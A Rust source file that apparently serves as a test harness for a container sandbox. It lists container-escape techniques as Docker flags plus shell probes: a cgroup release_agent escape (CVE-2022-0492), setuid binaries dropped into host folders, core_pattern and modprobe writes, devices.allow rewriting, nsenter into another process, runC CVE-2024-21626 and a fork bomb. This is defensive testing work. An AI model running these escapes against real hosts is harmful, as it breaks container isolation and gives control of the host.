//! The list of ways, as far as this kernel has what they need.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use super::super::docker::Docker;
use super::{Canaries, Hierarchy, LoopDevice, capabilities};
use crate::support::write_script;

/// One way out.
pub(super) struct Technique {
    pub(super) name: &'static str,
    /// What somebody must have given the container for it.
    pub(super) needs: &'static str,
    pub(super) flags: Vec<String>,
    /// A shell's script, which prints [`super::OUT`] when it got what it wanted.
    pub(super) script: String,
    /// Whether there was an effect outside; also taken back.
    pub(super) outside: Option<Box<dyn Fn() -> bool>>,
    /// Whether a running container is entered, with the flags, instead of one started.
    pub(super) by_exec: bool,
}

impl Technique {
    fn new(name: &'static str, needs: &'static str, flags: &[&str], script: &str) -> Self {
        let flags = flags.iter().map(ToString::to_string).collect();
        Self { name, needs, flags, script: script.into(), outside: None, by_exec: false }
    }

    /// It worked only if this appeared on the host, which is removed when looked at.
    fn leaves(mut self, canary: PathBuf) -> Self {
        self.outside = Some(Box::new(move || std::fs::remove_file(&canary).is_ok()));
        self
    }
}

/// A question of the probe that was answered.
fn probed(question: &str) -> String {
    format!("/bin/probe | grep -q '^{question}.reached' && echo ESCAPED")
}

const SYS_ADMIN: [&str; 2] = ["--cap-add", "SYS_ADMIN"];
const NO_SECCOMP: [&str; 2] = ["--security-opt", "seccomp=unconfined"];
/// As far as the machine has AppArmor.
const NO_APPARMOR: [&str; 2] = ["--security-opt", "apparmor=unconfined"];
const UNMASKED: [&str; 4] =
    ["--security-opt", "systempaths=unconfined", "--security-opt", "apparmor=unconfined"];

pub(super) fn techniques(docker: &Docker, canaries: &Canaries, made: &Hierarchy) -> Vec<Technique> {
    let admin: Vec<&str> = [SYS_ADMIN, NO_SECCOMP, NO_APPARMOR].concat();
    let folder = docker.folder.path();
    let mut out = with_the_hosts_files(docker);
    out.extend(with_mounts(&admin));
    let agent = folder.join("agent");
    let canary = folder.join("agent-ran");
    write_script(&agent, &format!("#!/bin/sh\n: >{}\n", canary.display()));
    let name = "program run by the host's root (release_agent)";
    let script = release_agent(&made.name, &agent);
    let needs = "SYS_ADMIN, no seccomp";
    out.push(Technique::new(name, needs, &admin, &script).leaves(canary.clone()));
    // As any user, in a user namespace; the hierarchy must be there already.
    let name = "the same from a user namespace (CVE-2022-0492)";
    let script = release_agent(&canaries.hierarchy.name, &agent);
    let script = format!("/bin/ways enter /bin/sh -c '{}'", script.replace('\'', "'\\''"));
    let flags = [NO_SECCOMP, NO_APPARMOR].concat();
    out.push(Technique::new(name, "no seccomp, Linux before 5.17", &flags, &script).leaves(canary));
    out.extend(of_the_kernel());
    out.extend(with_settings());
    out.extend(of_the_container());
    out.extend(beside_another(docker, &admin));
    out.extend(canaries.disk.iter().flat_map(|disk| with_a_disk(disk, &admin)));
    out
}

/// Sockets and folders that are given in.
fn with_the_hosts_files(docker: &Docker) -> Vec<Technique> {
    let folder = docker.folder.path();
    let host = folder.join("host");
    std::fs::create_dir(&host).unwrap();
    std::fs::set_permissions(&host, PermissionsExt::from_mode(0o777)).unwrap();
    let host_volume = format!("{}:/h", host.display());
    let volume = |path: &Path| format!("{}:/engine.sock", path.display());
    let mut setuid = Technique::new(
        "setuid file left in a folder of the host",
        "`-v DIR`",
        &["--volume", &host_volume],
        "cp /bin/busybox /h/s && chmod 4755 /h/s && echo ESCAPED",
    );
    let file = host.join("s");
    setuid.outside = Some(Box::new(move || {
        let mode = std::fs::metadata(&file).map(|m| m.permissions().mode());
        let _ = std::fs::remove_file(&file);
        mode.is_ok_and(|mode| mode & 0o4000 != 0)
    }));
    vec![
        Technique::new(
            "socket of Docker",
            "`-v docker.sock`",
            &["--volume", &volume(&docker.socket())],
            "/bin/ways ask /engine.sock http && echo ESCAPED",
        ),
        Technique::new(
            "socket of containerd",
            "`-v containerd.sock`",
            &["--volume", &volume(&folder.join("exec/containerd/containerd.sock"))],
            "/bin/ways ask /engine.sock grpc && echo ESCAPED",
        ),
        Technique::new(
            "abstract socket of containerd's shim (CVE-2020-15257)",
            "`--network host`, containerd before 1.3.9",
            &["--network", "host"],
            "grep -q '@.*shim' /proc/net/unix && echo ESCAPED",
        ),
        Technique::new(
            "file of the host written",
            "`-v DIR`",
            &["--volume", &host_volume],
            "echo x >/h/canary && echo ESCAPED",
        )
        .leaves(host.join("canary")),
        setuid,
        Technique::new(
            "setuid file left in a volume",
            "`-v VOLUME`",
            &["--volume", "shared:/h"],
            "cp /bin/busybox /h/s && chmod 4755 /h/s && test -u /h/s && echo ESCAPED",
        ),
    ]
}

/// File systems of the kernel's that are mounted.
fn with_mounts(admin: &[&str]) -> Vec<Technique> {
    let needs = "SYS_ADMIN, no seccomp";
    vec![
        Technique::new(
            "core_pattern through a new proc",
            needs,
            admin,
            "mount -t proc p /tmp && cat /proc/sys/kernel/core_pattern \
             >/tmp/sys/kernel/core_pattern && echo ESCAPED",
        ),
        Technique::new(
            "binary formats of the host (binfmt_misc)",
            needs,
            admin,
            "mount -t binfmt_misc b /tmp && test -w /tmp/register && echo ESCAPED",
        ),
        Technique::new(
            "the kernel's debugging files (debugfs)",
            needs,
            admin,
            "mount -t debugfs d /tmp && ls /tmp | grep -q . && echo ESCAPED",
        ),
    ]
}

/// A hierarchy of control groups that nobody else is in, and an agent that does nothing but leave a
/// canary.
fn release_agent(hierarchy: &str, agent: &Path) -> String {
    format!(
        "mount -t cgroup -o none,name={hierarchy} c /tmp || exit 1; mkdir -p /tmp/x; \
         echo 1 >/tmp/x/notify_on_release && echo {} >/tmp/release_agent && \
         sh -c 'echo $$ >/tmp/x/cgroup.procs' && sleep 2 && echo ESCAPED; \
         rmdir /tmp/x; echo >/tmp/release_agent; umount /tmp",
        agent.display()
    )
}

/// Calls by which the kernel itself is changed or read, where this one has them.
fn of_the_kernel() -> Vec<Technique> {
    let has = |path: &str| Path::new(path).exists();
    let protocols = std::fs::read_to_string("/proc/net/protocols").unwrap_or_default();
    let speaks = |name: &str| protocols.lines().any(|line| line.starts_with(name));
    let mut out = vec![Technique::new("io_uring", "nothing", &[], &probed("io_uring_setup"))];
    if has("/proc/modules") {
        out.push(Technique::new(
            "module loaded (its text is refused as no module)",
            "SYS_MODULE",
            &["--cap-add", "SYS_MODULE"],
            &probed("init_module"),
        ));
    }
    if has("/sys/kernel/kexec_loaded") {
        out.push(Technique::new(
            "another kernel loaded (kexec, nothing to load)",
            "SYS_BOOT, no seccomp",
            &[&["--cap-add", "SYS_BOOT"], &NO_SECCOMP[..]].concat(),
            &probed("kexec_load"),
        ));
    }
    if has("/dev/mem") {
        out.push(Technique::new(
            "the machine's memory read",
            "`--device /dev/mem`, SYS_RAWIO",
            &["--device", "/dev/mem", "--cap-add", "SYS_RAWIO"],
            "head -c 16 /dev/mem >/tmp/memory && test -s /tmp/memory && echo ESCAPED",
        ));
        // Where the kernel has the one, it has the other.
        out.push(Technique::new(
            "ports of the machine (iopl)",
            "SYS_RAWIO",
            &["--cap-add", "SYS_RAWIO"],
            &probed("iopl"),
        ));
    }
    if speaks("ALG") {
        let name = "sockets of the kernel's ciphers (AF_ALG)";
        out.push(Technique::new(name, "nothing", &[], &probed("AF_ALG socket")));
    }
    let name = "packets forged and read";
    let needs = "nothing (NET_RAW is a default)";
    out.push(Technique::new(name, needs, &[], &probed("packet socket")));
    let name = "programs of the kernel listed (bpf)";
    let flags = [SYS_ADMIN, NO_APPARMOR].concat();
    out.push(Technique::new(name, "SYS_ADMIN", &flags, &probed("bpf")));
    let name = "keys of the kernel's";
    let flags = NO_SECCOMP;
    out.push(Technique::new(name, "no seccomp", &flags, &probed("add_key")));
    let name = "user namespace";
    out.push(Technique::new(name, "no seccomp", &flags, &probed("user namespace")));
    let name = "page faults answered (userfaultfd)";
    let needs = "SYS_PTRACE, no seccomp";
    let flags = [&["--cap-add", "SYS_PTRACE"], &NO_SECCOMP[..]].concat();
    out.push(Technique::new(name, needs, &flags, &probed("userfaultfd")));
    out
}

/// Settings of the kernel's in /proc and /sys; written with the value that they have, or opened.
fn with_settings() -> Vec<Technique> {
    let has = |path: &str| Path::new(path).exists();
    let needs = "`systempaths=unconfined`";
    let mut out = vec![Technique::new(
        "kernel settings through unmasked paths",
        needs,
        &UNMASKED,
        "v=$(cat /proc/sys/kernel/core_pattern); echo \"$v\" \
         >/proc/sys/kernel/core_pattern && echo ESCAPED",
    )];
    if has("/proc/sys/kernel/modprobe") {
        out.push(Technique::new(
            "the kernel's helper for modules (modprobe)",
            needs,
            &UNMASKED,
            "v=$(cat /proc/sys/kernel/modprobe); echo \"$v\" \
             >/proc/sys/kernel/modprobe && echo ESCAPED",
        ));
    }
    if has("/proc/sysrq-trigger") {
        let script = "test -w /proc/sysrq-trigger && (: >>/proc/sysrq-trigger) && echo ESCAPED";
        let name = "commands to the kernel (sysrq-trigger opened)";
        out.push(Technique::new(name, needs, &UNMASKED, script));
    }
    if has("/proc/kcore") {
        out.push(Technique::new(
            "the kernel's memory (kcore)",
            "`systempaths=unconfined`, SYS_RAWIO",
            &[&UNMASKED[..], &["--cap-add", "SYS_RAWIO"]].concat(),
            "head -c 4 /proc/kcore | grep -q ELF && echo ESCAPED",
        ));
    }
    if has("/sys/kernel/uevent_helper") {
        let script = "(: >>/sys/kernel/uevent_helper) && echo ESCAPED";
        let flags = ["--privileged"];
        out.push(Technique::new(
            "helper for devices (uevent_helper opened)",
            "`--privileged`",
            &flags,
            script,
        ));
    }
    out
}

/// What a program does in its own container.
fn of_the_container() -> Vec<Technique> {
    let mut entered = Technique::new(
        "rights regained by `docker exec` in a container without",
        "`exec --user 0`",
        &["--user", "0"],
        "/bin/ways regain && echo ESCAPED",
    );
    entered.by_exec = true;
    vec![
        Technique::new(
            "program dropped into the root and run",
            "nothing",
            &[],
            "cp /bin/busybox /srv/busybox && /srv/busybox echo ESCAPED",
        ),
        Technique::new(
            "fork bomb of 200",
            "no limit",
            &["--pids-limit", "-1"],
            "n=0; while [ $n -lt 200 ]; do sleep 20 & n=$((n+1)); done; \
             [ $(ls -d /proc/[0-9]* | grep -c .) -gt 200 ] && echo ESCAPED",
        ),
        Technique::new(
            "400 MB of memory taken",
            "no limit",
            &[],
            "head -c 400000000 /dev/zero | /bin/busybox tail -c 400000000 | \
             /bin/busybox wc -c | grep -q 400000000 && echo ESCAPED",
        ),
        Technique::new(
            "leaked descriptor of runC (CVE-2024-21626)",
            "`-w /proc/self/fd/8`, runC before 1.1.12",
            &["--workdir", "/proc/self/fd/8"],
            "test -e ../../../etc/debian_version && echo ESCAPED",
        ),
        entered,
    ]
}

/// Ways to another container's processes, which stand for the host's.
fn beside_another(docker: &Docker, admin: &[&str]) -> Vec<Technique> {
    let other = ["--detach", "--name", "other", "--env", "SECRET=canary"];
    let line = "echo canary >/canary; exec sleep 100000";
    docker.container(&other, &["/bin/sh", "-c", line]).expect(0);
    let pid = docker.run(&["inspect", "--format", "{{.State.Pid}}", "other"]).expect(0).stdout;
    let pid = pid.trim();
    let ptrace =
        ["--pid", "host", "--cap-add", "SYS_PTRACE", "--security-opt", "apparmor=unconfined"];
    vec![
        Technique::new(
            "environment of the host's processes",
            "`--pid host`, SYS_PTRACE",
            &ptrace,
            &format!("grep -q SECRET=canary /proc/{pid}/environ && echo ESCAPED"),
        ),
        Technique::new(
            "files of the host's processes (/proc/PID/root)",
            "`--pid host`, SYS_PTRACE",
            &ptrace,
            &format!("grep -q canary /proc/{pid}/root/canary && echo ESCAPED"),
        ),
        Technique::new(
            "the host's mounts entered (nsenter)",
            "`--pid host`, SYS_ADMIN, SYS_PTRACE, no seccomp",
            &[&ptrace[..], admin].concat(),
            &format!("nsenter -t {pid} -m /bin/grep -q canary /canary && echo ESCAPED"),
        ),
        Technique::new(
            "the host's processes signalled",
            "`--pid host`",
            &["--pid", "host", "--security-opt", "apparmor=unconfined"],
            &format!("kill -0 {pid} && echo ESCAPED"),
        ),
    ]
}

/// Ways to a disk.
fn with_a_disk(disk: &LoopDevice, admin: &[&str]) -> Vec<Technique> {
    let minor = disk.minor();
    let read = format!("head -c 6 {} | grep -q CANARY && echo ESCAPED", disk.0);
    let mut out = vec![Technique::new("disk read", "`--device`", &["--device", &disk.0], &read)];
    if capabilities().iter().any(|name| name.ends_with("SYS_RESOURCE")) {
        let name = "disk read, by `--privileged`";
        out.push(Technique::new(name, "`--privileged`", &["--privileged"], &read));
    }
    let devices = std::fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
    if devices.contains(":devices:") {
        out.push(Technique::new(
            "rights to devices rewritten (devices.allow)",
            "SYS_ADMIN, MKNOD, no seccomp, cgroup v1",
            admin,
            &format!(
                "mount -t cgroup -o devices c /tmp && at=$(sed -n 's/^[0-9]*:devices://p' \
                 /proc/self/cgroup) && echo 'b 7:{minor} rwm' >/tmp$at/devices.allow && \
                 mknod /dev/mine b 7 {minor} && head -c 6 /dev/mine | grep -q CANARY && \
                 echo ESCAPED"
            ),
        ));
    }
    out
}
